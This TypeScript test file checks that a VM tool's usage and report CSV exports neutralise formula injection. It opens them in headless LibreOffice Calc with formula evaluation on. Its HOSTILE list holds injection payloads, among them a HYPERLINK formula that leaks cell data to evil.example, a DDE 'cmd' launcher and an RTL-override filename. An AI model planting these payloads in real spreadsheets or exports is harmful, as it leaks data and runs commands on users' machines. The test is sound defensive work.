/**
 * The CSV exports opened by a real spreadsheet: LibreOffice Calc, headless, converts a usage CSV and a
 * report CSV built from hostile VM names and tenants to flat ODF (`.fods`), and the test reads the
 * cells back. The import runs with formula evaluation ON (CSV filter token 13) and special-number
 * detection on, the most dangerous way an operator could open the file; a control file of the same
 * cells without the guard shows that this import does evaluate them, so the check can fail.
 * Without soffice the test is skipped locally and fails under CI=true (.ci/run installs Debian package
 * libreoffice-calc).
 */
import { execFile, spawnSync } from 'node:child_process';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { reportCsv, runReport } from '../../../agent/reports/index.js';
import { openStore } from '../../../agent/store/index.js';
import { buildUsageMonth, usageCsv } from '../../../agent/usage/index.js';
import { HOST_FACTS, observed, type TempDir, tempDir, vmGuid } from '../store/store-test-kit.js';

/** What tenants may call their VMs, and themselves: each a known CSV/formula injection form. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for invoice")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '=1+1',
  '\t=1+1',
  '\r=2+2',
  'say "hi", then, leave',
  'first line\nsecond line',
  '\u202Eexe.txt',
] as const;

/** CSV import: comma, double quote, UTF-8, from line 1, ..., detect special numbers, evaluate formulas. */
const CSV_FILTER = 'CSV:44,34,76,1,,0,false,true,false,false,false,-1,true';

const soffice = spawnSync('soffice', ['--version'], { encoding: 'utf8' });
const installed = soffice.error === undefined && soffice.status === 0;

interface Cell {
  readonly formula: string | null;
  readonly text: string;
}

const ENTITIES: Readonly<Record<string, string>> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" };

/** The text of one `<text:p>`: spaces, tabs and line breaks are elements in ODF; entities decoded. */
function paragraphText(xml: string): string {
  return xml
    .replace(/<text:s(?: text:c="(\d+)")?\/>/g, (_, n: string | undefined) => ' '.repeat(Number(n ?? 1)))
    .replace(/<text:tab\/>/g, '\t')
    .replace(/<text:line-break\/>/g, '\n')
    .replace(/<[^>]+>/g, '')
    .replace(/&(amp|lt|gt|quot|apos);/g, (_, name: string) => ENTITIES[name] ?? '')
    .replace(/&#(x[0-9a-f]+|\d+);/gi, (_, code: string) =>
      String.fromCodePoint(code.startsWith('x') ? Number.parseInt(code.slice(1), 16) : Number(code)),
    );
}

/** Every non-empty cell of a flat ODF spreadsheet (repeated ones as often as they repeat). */
function cells(fods: string): Cell[] {
  const found: Cell[] = [];
  for (const match of fods.matchAll(/<table:table-cell([^>]*?)(?:\/>|>([\s\S]*?)<\/table:table-cell>)/g)) {
    const attributes = match[1] ?? '';
    const paragraphs = [...(match[2] ?? '').matchAll(/<text:p>([\s\S]*?)<\/text:p>/g)].map((p) =>
      paragraphText(p[1] ?? ''),
    );
    const formula = /table:formula="([^"]*)"/.exec(attributes)?.[1] ?? null;
    // Equal neighbours are one element repeated (a VM's name and tenant, when they are the same text).
    const repeated = Number(/table:number-columns-repeated="(\d+)"/.exec(attributes)?.[1] ?? 1);
    if (paragraphs.length === 0 && formula === null) continue;
    for (let i = 0; i < Math.min(repeated, 1024); i++) found.push({ formula, text: paragraphs.join('\n') });
  }
  return found;
}

/** Converts CSV files to .fods with a profile and HOME of its own; resolves to each file's cells. */
async function openInCalc(dir: string, files: Record<string, string>): Promise<Record<string, Cell[]>> {
  const paths = [];
  for (const [name, text] of Object.entries(files)) {
    const path = join(dir, `${name}.csv`);
    await writeFile(path, text, 'utf8');
    paths.push(path);
  }
  const home = join(dir, 'home');
  await mkdir(home, { recursive: true });
  const profile = pathToFileURL(join(dir, 'profile')).href;
  const args = [`-env:UserInstallation=${profile}`, '--headless', '--norestore', `--infilter=${CSV_FILTER}`];
  await promisify(execFile)(
    'soffice',
    [...args, '--convert-to', 'fods', '--outdir', join(dir, 'out'), ...paths],
    {
      env: { ...process.env, HOME: home },
      timeout: 120_000,
    },
  );
  const result: Record<string, Cell[]> = {};
  for (const name of Object.keys(files))
    result[name] = cells(await readFile(join(dir, 'out', `${name}.fods`), 'utf8'));
  return result;
}

/** What a spreadsheet shows for a text: a CR (alone or before LF) is a line break there. */
const shown = (text: string) => text.replace(/\r\n?/g, '\n');

/** RFC 4180 without the guard: the control that shows the import evaluates formulas. */
function unguarded(values: readonly string[]): string {
  return `name\r\n${values.map((v) => (/[",\r\n]/.test(v) ? `"${v.replaceAll('"', '""')}"` : v)).join('\r\n')}\r\n`;
}

async function hostileCsvs(dir: TempDir): Promise<{ usage: string; report: string }> {
  const store = await openStore(dir.file('hostile.db'));
  const from = new Date('2026-11-02T10:00:00Z');
  const until = new Date('2026-11-02T12:00:00Z');
  try {
    await store.transaction(async (tx) => {
      await tx.upsertHost('HV01', from);
      await tx.recordHostFacts('HV01', from, HOST_FACTS);
      for (const [i, text] of HOSTILE.entries()) {
        const id = vmGuid(i + 1);
        await tx.upsertVm({ id, tenant: text }, from);
        await tx.recordVmName(id, from, text);
        for (const at of [from, until]) await tx.recordObservation(id, at, observed({ host: 'HV01' }));
      }
    });
    const usage = usageCsv(await buildUsageMonth(store, '2026-11'), 'vms');
    const report = reportCsv(await runReport(store, 'licence-status-vms', { status: 'licensed' }));
    return { usage, report };
  } finally {
    await store.close();
  }
}

describe('CSV exports opened in LibreOffice Calc', () => {
  if (!installed) {
    if (process.env.CI === 'true') {
      it('soffice is installed (CI=true requires it: apt-get install libreoffice-calc)', () => {
        expect.fail('soffice is not on PATH; .ci/run installs Debian package libreoffice-calc');
      });
    } else {
      it.skip('skipped: soffice (Debian package libreoffice-calc) is not installed here', () => undefined);
    }
    return;
  }

  let dir: TempDir;
  let opened: Record<string, Cell[]>;
  beforeAll(async () => {
    dir = await tempDir();
    opened = await openInCalc(dir.path, { ...(await hostileCsvs(dir)), control: unguarded(HOSTILE) });
  }, 180_000);
  afterAll(async () => {
    await dir.remove();
  });

  it('evaluates the unguarded control file (the import used here runs formulas)', () => {
    const formulas = (opened.control ?? []).filter((cell) => cell.formula !== null);
    expect(formulas.length).toBeGreaterThan(0);
  });

  for (const file of ['usage', 'report'] as const) {
    it(`holds no formula in the ${file} CSV, and shows every hostile name and tenant as its text`, () => {
      const sheet = opened[file] ?? [];
      expect(sheet.filter((cell) => cell.formula !== null)).toEqual([]);
      for (const text of HOSTILE) {
        const literal = sheet.filter((cell) => cell.text === shown(text) || cell.text === `'${shown(text)}`);
        // The VM's name and its tenant: two cells in each file.
        expect(literal.length, JSON.stringify(text)).toBe(2);
      }
    });
  }
});
